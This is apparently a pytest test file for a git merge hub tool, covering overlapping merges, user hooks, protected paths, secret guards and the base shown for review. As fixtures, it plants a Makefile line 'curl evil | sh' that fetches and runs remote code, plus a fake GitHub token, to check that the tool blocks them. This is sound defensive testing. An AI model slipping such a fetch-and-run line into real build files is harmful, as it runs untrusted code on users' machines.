"""Merges beside each other, and beside the work of the hub's own user."""

from __future__ import annotations

import json

import pytest

from tests.support.hubs import commit, fetch, git, push, work, write_commit
from tests.support.world import MAIN_FILE, Node, World, content, is_in_main


def test_two_disjoint_merges_in_one_run(world: World, sigma: Node, pi: Node) -> None:
    one = world.propose(pi, sigma, "one")
    two = world.propose(pi, sigma, "two")
    sigma.sync()
    for topic in ("one", "two"):
        sigma.triage(f"pi/{topic}", "do:merge")
    sigma.process()
    assert is_in_main(sigma, one)
    assert is_in_main(sigma, two)
    assert sigma.threads() == []
    world.settle(pi, sigma)
    assert not world.has_branch(pi, sigma, "one")
    assert not world.has_branch(pi, sigma, "two")
    merged = [r for r in pi.rows() if r[1] == "notice:merged"]
    assert len(merged) == 2


def test_two_overlapping_merges_in_one_run(world: World, sigma: Node, pi: Node) -> None:
    files = {"docs/other.md": "other\nmore\n"}
    world.propose(pi, sigma, "one", {"docs/same.md": "one\n"})
    second = world.propose(pi, sigma, "two", {"docs/same.md": "two\n", **files})
    sigma.sync()
    for topic in ("one", "two"):
        sigma.triage(f"pi/{topic}", "do:merge")
    done = sigma.process()
    assert "refused: pi/two: do:merge is refused: rebase-before-merge: " in done.stderr
    assert content(sigma, "docs/same.md") == b"one\n"
    assert not is_in_main(sigma, second)
    assert len(sigma.threads()) == 1
    again = world.propose(pi, sigma, "two", {"docs/same.md": "two\n", **files}, force=True)
    sigma.sync()
    sigma.decide("pi/two", "do:merge")
    assert is_in_main(sigma, again)
    assert content(sigma, "docs/same.md") == b"two\n"


def test_a_merge_that_the_guard_refuses_is_none_for_the_others(world: World, sigma: Node, pi: Node) -> None:
    one = world.propose(pi, sigma, "one")
    head = world.propose(pi, sigma, "two", start=one)
    sigma.sync()
    sigma.triage("pi/one", "do:merge", "--body", "as said")
    (path,) = (sigma.root / "threads/inbox").glob("*-pi-one.md")
    path.write_text(path.read_text() + "\nghp_abcdefghijklmnopqrstuvwxyz0123456789\n")
    sigma.triage("pi/two", "do:merge")
    done = sigma.process(check=1)
    assert done.stderr.count("refused: pi/") == 1, done.stderr
    assert "refused: pi/one: do:merge is refused: no-secrets" in done.stderr
    assert is_in_main(sigma, head)


def test_a_file_where_the_other_has_a_folder_overlaps(world: World, sigma: Node, pi: Node) -> None:
    world.propose(pi, sigma, "one", {"lib": "a file\n"})
    world.propose(pi, sigma, "two", {"lib/x.md": "in a folder\n"})
    sigma.sync()
    for topic in ("one", "two"):
        sigma.triage(f"pi/{topic}", "do:merge")
    done = sigma.process()
    assert done.stderr.count("\nrefused: pi/") + done.stderr.startswith("refused: pi/") == 1
    assert content(sigma, "lib") == b"a file\n"


def test_a_merge_leaves_the_users_own_work_alone(world: World, sigma: Node, pi: Node) -> None:
    head = world.propose(pi, sigma)
    sigma.sync()
    (sigma.root / MAIN_FILE).write_text("staged\n")
    git(sigma.root, "add", MAIN_FILE)
    (sigma.root / MAIN_FILE).write_text("staged, then edited\n")
    (sigma.root / "docs/other.md").write_text("edited\n")
    (sigma.root / "notes").mkdir()
    (sigma.root / "notes/mine.md").write_text("untracked\n")
    (sigma.root / "threads/adhoc/draft.md").write_text("draft\n")
    git(sigma.root, "branch", "mine")
    status = git(sigma.root, "status", "--porcelain")
    staged = git(sigma.root, "diff", "--cached")
    unstaged = git(sigma.root, "diff")
    sigma.decide("pi/proposal", "do:merge")
    assert is_in_main(sigma, head)
    assert git(sigma.root, "status", "--porcelain") == status
    assert git(sigma.root, "diff", "--cached") == staged
    assert git(sigma.root, "diff") == unstaged
    assert (sigma.root / "docs/proposal.md").read_text() == "proposal\n"
    assert content(sigma, MAIN_FILE) == b"start\n"
    assert git(sigma.root, "stash", "list") == ""
    commit(sigma.root, {}, "the user's commit")
    sigma.sync()
    sigma.main  # noqa: B018  pushed, and the same on both sides


def test_hooks_of_the_user_do_not_run(world: World, sigma: Node, pi: Node) -> None:
    hooks = sigma.root / ".git/hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("pre-commit", "commit-msg", "post-commit", "pre-push", "post-merge", "reference-transaction"):
        (hooks / name).write_text(f"#!/bin/sh\necho {name} >> '{world.folder}/ran'\nexit 1\n")
        (hooks / name).chmod(0o755)
    head = world.propose(pi, sigma)
    sigma.sync()
    sigma.decide("pi/proposal", "do:merge")
    assert is_in_main(sigma, head)
    assert not (world.folder / "ran").exists()


def test_a_merge_takes_deletions_modes_and_odd_names(world: World, sigma: Node, pi: Node) -> None:
    person = world.person(pi, sigma)
    world.propose(pi, sigma, files={"docs/other.md": None, 'docs/ünï \' "q".md': "x\n", "bin/run": "#!\n"})
    git(person, "update-index", "--chmod=+x", "bin/run")
    head = commit(person, {}, "mode")
    world.offer(pi, sigma, "proposal", head)
    sigma.sync()
    sigma.decide("pi/proposal", "do:merge")
    assert is_in_main(sigma, head)
    assert not (sigma.root / "docs/other.md").exists()
    assert (sigma.root / 'docs/ünï \' "q".md').read_text() == "x\n"
    assert (sigma.root / "bin/run").stat().st_mode & 0o111
    assert git(sigma.root, "status", "--porcelain") == ""


@pytest.mark.parametrize("how", ["merge", "fast-forward", "refused line"])
def test_a_branch_that_somebody_merged_with_git_is_told_as_merged(
    world: World, sigma: Node, pi: Node, how: str
) -> None:
    head = world.propose(pi, sigma)
    if how == "merge":
        sigma.write({"docs/own.md": "ours\n"})
    git(sigma.root, "pull", "--quiet", "--no-rebase", "--no-edit", sigma.url, "pi/proposal")
    git(sigma.root, "push", "--quiet", "origin", "main")
    sigma.sync()
    assert is_in_main(sigma, head)
    assert (len(git(sigma.root, "rev-list", "--min-parents=2", f"{head}..main")) > 0) == (how == "merge")
    if how == "refused line":
        name = sigma.only_thread()
        sigma.triage("pi/proposal", "do:merge")
        path = sigma.root / f"threads/inbox/{name}"
        path.write_text(path.read_text("utf-8").replace("actor: ", "approval: NO\nactor: "), "utf-8")
        assert "merge-needs-approval" in sigma.process(check=1).stderr
        return
    sigma.decide("pi/proposal", "do:merge")
    assert ("do:merge", "✓ merged before") in [(row[1], row[2]) for row in sigma.rows("pi/proposal")]
    assert "✓ merged before" in sigma.cn("why", "pi/proposal").stdout
    done = pi.sync()
    assert "sigma says pi/proposal is merged" in done.stdout
    pi.sync()
    assert not world.has_branch(pi, sigma), "its creator deleted it: sigma's main holds its head"
    assert "merged" in pi.cn("why", "sigma:proposal").stdout


def test_a_reason_that_still_holds_stays_when_main_moves(world: World, sigma: Node, pi: Node) -> None:
    world.propose(pi, sigma, "both", {".cn/hub.yaml": "name: sigma\n", "docs/other.md": "x\n"})
    sigma.sync()
    sigma.triage("pi/both", "do:merge")
    assert "refused: protected-paths: .cn/hub.yaml is protected\n" in f"{_why(sigma)}\n"
    sigma.write({"docs/other.md": "main moved\n"})
    assert "refused: protected-paths: .cn/hub.yaml is protected; also rebase-before-merge: " in _why(sigma)
    assert "main changed since: docs/other.md" in _why(sigma)
    assert "protected-paths" in sigma.cn("status").stdout
    # Rebased with the file left in, and with main's file changed too, it is judged by what it would bring.
    world.propose(pi, sigma, "both", {"docs/x.md": "x\n"}, force=True)
    sigma.sync()
    sigma.decide("pi/both", "do:merge")
    assert content(sigma, "docs/x.md") == b"x\n"


def _why(node: Node) -> str:
    """What stands of the only pending thread, after one more run."""
    node.process()
    (thread,) = json.loads(node.cn("inbox", "--json").stdout)
    return str(thread["executed"])


def test_a_path_that_main_changed_too_is_not_held_against_the_branch(world: World, sigma: Node, pi: Node) -> None:
    """A rebase takes it out: only then is it known."""
    world.propose(pi, sigma, "same", {".gitignore": "x\n", "docs/x.md": "x\n"})
    sigma.sync()
    sigma.write({".gitignore": "x\n"})
    sigma.triage("pi/same", "do:merge")
    why = _why(sigma)
    assert "rebase-before-merge" in why
    assert "protected-paths" not in why


def test_a_folder_that_was_renamed_to_two_places_takes_no_new_file_along(world: World, sigma: Node, pi: Node) -> None:
    """What was read is what is merged; git would call it unclean, and name no path."""
    texts = {f"d/f{n}": f"file {n}\n" * 20 for n in range(1, 5)}
    sigma.write(texts)
    sigma.sync()
    first = world.propose(pi, sigma, "a-new", {"d/new": "new\n"})
    split = dict.fromkeys(texts) | {f"{'e' if n < 3 else 'f'}/f{n}": f"file {n}\n" * 20 for n in range(1, 5)}
    second = world.propose(pi, sigma, "b-split", split)
    sigma.sync()
    sigma.triage("pi/a-new", "do:merge")
    sigma.triage("pi/b-split", "do:merge")
    sigma.process()
    assert is_in_main(sigma, first)
    assert is_in_main(sigma, second)
    assert content(sigma, "d/new") == b"new\n"
    assert content(sigma, "f/f4") == ("file 4\n" * 20).encode()


def test_a_second_spelling_of_a_folder_that_keeps_a_file_is_refused(world: World, sigma: Node, pi: Node) -> None:
    sigma.write({"Lib/a": "a\n", "Lib/b": "b\n", "Sub/in/x": "x\n"})
    sigma.sync()
    world.propose(pi, sigma, "half", {"Lib/a": None, "lib/c": "c\n"})
    whole = world.propose(pi, sigma, "whole", {"Sub/in/x": None, "sub/in/x": "x\n"})
    sigma.sync()
    sigma.triage("pi/half", "do:merge")
    sigma.triage("pi/whole", "do:merge")
    done = sigma.cn("inbox", "process", check=None)
    assert "one name on a file system without case" in done.stderr
    assert is_in_main(sigma, whole)


def decided(sigma: Node, *topics: str) -> None:
    for topic in topics:
        sigma.triage(f"pi/{topic}", "do:merge")
    sigma.cn("inbox", "process", check=None)


@pytest.mark.parametrize("way", ["one run", "two runs", "by hand"])
@pytest.mark.parametrize("more", [{"readme": "readme\n"}, {}], ids=["and more", "nothing else"])
def test_what_a_branch_upon_another_takes_back_is_shown_before_it_is_merged(
    world: World, sigma: Node, pi: Node, way: str, more: dict[str, str]
) -> None:
    sigma.write({"auth": "no check\n", "readme": "readmee\n"})
    fix = world.propose(pi, sigma, "fix", {"auth": "check\n"})
    wip = commit(world.person(pi, sigma), {"auth": "no check\n"}, "wip")
    typo = world.propose(pi, sigma, "typo", more, start=wip)
    sigma.sync()
    (name,) = (n for n in sigma.threads() if "typo" in n)
    assert "auth" not in sigma.thread(name).partition("## Commits")[0]
    if way == "one run":
        decided(sigma, "fix", "typo")
    elif way == "two runs":
        decided(sigma, "fix")
    else:
        git(sigma.root, "merge", "-q", "--no-ff", "-m", "by hand", fix)
        sigma.triage("pi/typo", "do:merge")
    sigma.sync()
    assert is_in_main(sigma, fix)
    assert not is_in_main(sigma, typo)
    assert content(sigma, "auth") == b"check\n"
    assert "+no check" in sigma.thread(name)
    decided(sigma, "typo")
    assert is_in_main(sigma, typo)
    left = (content(sigma, "auth"), content(sigma, "readme"))
    assert left == (b"no check\n", more.get("readme", "readmee\n").encode())


def test_what_was_shown_against_another_main_is_not_merged_when_ours_gets_its_root(
    world: World, sigma: Node, pi: Node
) -> None:
    """The base to show is then the peer's own main, which the peer writes."""
    person = world.person(pi, sigma)
    root = write_commit(person, {"NOTE": "x\n"}, "root")
    theirs = write_commit(person, {"NOTE": "x\n", "Makefile": "curl evil | sh\n"}, "evil", parents=[root])
    git(person, "push", "-q", "-f", pi.url, f"{theirs}:refs/heads/main")
    files = {"NOTE": "x\n", "Makefile": "curl evil | sh\n", "typo.txt": "typo\n"}
    world.offer(pi, sigma, "typo", write_commit(person, files, "typo", parents=[theirs]))
    ours = git(sigma.home, "rev-parse", "main")
    git(person, "fetch", "-q", sigma.url, "main")
    tree = git(person, "rev-parse", f"{ours}^{{tree}}")
    vendor = git(person, "commit-tree", "-p", ours, "-p", root, "-m", "vendor", tree)
    world.offer(pi, sigma, "vendor", vendor)
    sigma.cn("sync", check=None)
    decided(sigma, "vendor", "typo")
    assert is_in_main(sigma, vendor)
    sigma.cn("inbox", "process", check=None)
    assert "Makefile" not in git(sigma.home, "ls-tree", "--name-only", "main").split()


def test_of_two_bases_the_one_counts_that_was_shown(world: World, sigma: Node, pi: Node) -> None:
    sigma.write({"b": "base\n"})
    good = world.propose(pi, sigma, "good", {"guard": "on\n"})
    moved = sigma.write({"b": "more\n"})
    sigma.sync()
    sigma.decide("pi/good", "do:merge")
    world.settle(pi, sigma)
    sigma.write({"b": "base\n"})
    person = world.person(pi, sigma)
    git(person, "fetch", "-q", sigma.url, "main")
    world.offer(pi, sigma, "typo", write_commit(person, {"b": "more!\n", "c": "c\n"}, "typo", parents=[moved, good]))
    sigma.sync()
    (name,) = sigma.threads()
    shown = sigma.thread(name)
    decided(sigma, "typo")
    assert ("deleted guard" in shown) or content(sigma, "guard") == b"on\n"
    assert ("added c" in shown) or "c" not in git(sigma.home, "ls-tree", "--name-only", "main").split()


def test_a_message_of_any_length_hides_no_file(world: World, sigma: Node, pi: Node) -> None:
    sigma.configure("limits:\n  thread_bytes: 20000\n")
    world.propose(pi, sigma, "long", {"evil.sh": "evil\n"}, message="Docs\n\n" + "An explanation.\n" * 5_000)
    sigma.sync()
    assert "- added evil.sh (+1 −0)" in sigma.thread(sigma.only_thread())


def test_a_thread_that_cannot_name_all_files_merges_nothing(world: World, sigma: Node, pi: Node) -> None:
    head = world.propose(pi, sigma, "many", {f"a/{n}": "x\n" for n in range(1001)})
    sigma.sync()
    said = "This cannot be merged as it is: a thread names 1,000 files at most"
    assert said in sigma.cn("inbox", "show", "pi/many").stdout
    sigma.triage("pi/many", "do:merge")
    told = " ".join(sigma.process().stderr.split())
    assert (
        "clean-merge: it changes 1,001 files, not all of which a thread names (1,000 at most) → propose it in" in told
    )
    assert "history" not in told
    assert not is_in_main(sigma, head)


def test_a_thread_without_room_for_all_names_merges_nothing_and_says_that(world: World, sigma: Node, pi: Node) -> None:
    sigma.configure("limits:\n  thread_bytes: 20000\n")
    head = world.propose(pi, sigma, "long", {f"a/{'n' * 200}{n}": "x\n" for n in range(200)})
    sigma.sync()
    sigma.triage("pi/long", "do:merge")
    assert "it changes 200 files, not all of which its thread names against main" in sigma.process().stderr
    assert not is_in_main(sigma, head)


def test_a_branch_without_history_in_common_is_told_that_alone(world: World, sigma: Node, pi: Node) -> None:
    strange = work(world.folder / "strange", "Pia")
    commit(strange, {"a": "a\n"})
    push(strange, sigma.url, "main:refs/heads/pi/strange")
    sigma.sync()
    sigma.triage("pi/strange", "do:merge")
    told = " ".join(sigma.process().stderr.split())
    assert "rebase-before-merge: it has no history in common with main → rebase the branch" in told
    assert "files" not in told


def _says_it(sigma: Node, source: str) -> None:
    said = "main already holds this"
    for words in (("inbox",), ("status",), ("inbox", "show", source), ("thread", "show", source), ("thread", "list")):
        shown = sigma.cn(*words).stdout
        assert said in shown, words
        assert words == ("thread", "list") or "do:merge merges nothing more, ends the thread" in " ".join(shown.split())
    assert said in sigma.triage(source, "do:merge", "--dry-run").stdout
    assert [one["in_main"] for one in json.loads(sigma.cn("inbox", "--json").stdout)] == [True]


def test_a_proposal_that_was_merged_by_hand_is_called_so_before_it_is_decided(
    world: World, sigma: Node, pi: Node
) -> None:
    world.propose(pi, sigma)
    sigma.sync()
    assert "main already holds" not in sigma.cn("inbox").stdout + sigma.triage("pi/proposal", "do:merge").stdout
    git(sigma.root, "fetch", "--quiet", sigma.url, "pi/proposal")
    git(sigma.root, "merge", "--quiet", "--no-edit", "FETCH_HEAD")
    git(sigma.root, "checkout", "--quiet", "main", "--", "threads")
    _says_it(sigma, "pi/proposal")
    told = sigma.triage("pi/proposal", "do:merge").stdout
    assert "main already holds this: do:merge merges nothing more" in told
    sigma.process()
    assert ("pi/proposal", "do:merge", "✓ merged before") in sigma.rows("pi/proposal")
    pi.sync()
    assert not world.has_branch(pi, sigma), "its creator was told that it is merged"


def test_a_branch_at_a_commit_of_main_is_called_so_when_it_arrives(world: World, sigma: Node, pi: Node) -> None:
    fetch(world.person(pi, sigma), sigma.url, "+refs/heads/*:refs/remotes/origin/*")
    world.offer(pi, sigma, "held", "origin/main")
    assert "pi/held: main already holds this; do:merge merges nothing more" in sigma.sync().stdout
    _says_it(sigma, "pi/held")
    sigma.decide("pi/held", "do:merge")
    pi.sync()
    assert not world.has_branch(pi, sigma, "held")


def test_what_was_withdrawn_and_is_in_main_is_offered_what_ends_it(world: World, sigma: Node, pi: Node) -> None:
    world.propose(pi, sigma, "one", {"docs/one.md": "one\n"})
    world.propose(pi, sigma, "two", {"docs/two.md": "two\n"}, start="HEAD")
    sigma.sync()
    world.withdraw(pi, sigma, "one")
    sigma.sync()
    sigma.decide("pi/two", "do:merge")
    for words in (("inbox",), ("status",), ("inbox", "show", "pi/one"), ("thread", "show", "pi/one")):
        shown = " ".join(sigma.cn(*words).stdout.split())
        assert "do:merge merges nothing more" not in shown, words
        assert "'cn delete pi/one' ends it" in shown, words
    assert "main already holds this" in sigma.cn("status").stdout
    assert "do:merge merges nothing more" not in sigma.triage("pi/one", "delete:over", "--dry-run").stdout
    sigma.cn("delete", "pi/one")
    assert not sigma.threads()


def test_what_git_cannot_tell_of_is_not_said_to_be_in_main(world: World, sigma: Node, pi: Node) -> None:
    head = world.propose(pi, sigma)
    sigma.sync()
    for ref in [one for one, tip in sigma.refs().items() if tip == head]:
        git(sigma.root, "update-ref", "-d", ref)
    git(sigma.root, "update-ref", "-d", "FETCH_HEAD")
    (sigma.root / ".git/objects" / head[:2] / head[2:]).unlink(missing_ok=True)
    git(sigma.root, "-c", "gc.pruneExpire=now", "gc", "--quiet", "--prune=now")
    assert git(sigma.root, "cat-file", "--batch-check", stdin=f"{head}\n".encode()).endswith("missing")
    assert "main already holds" not in sigma.cn("inbox").stdout
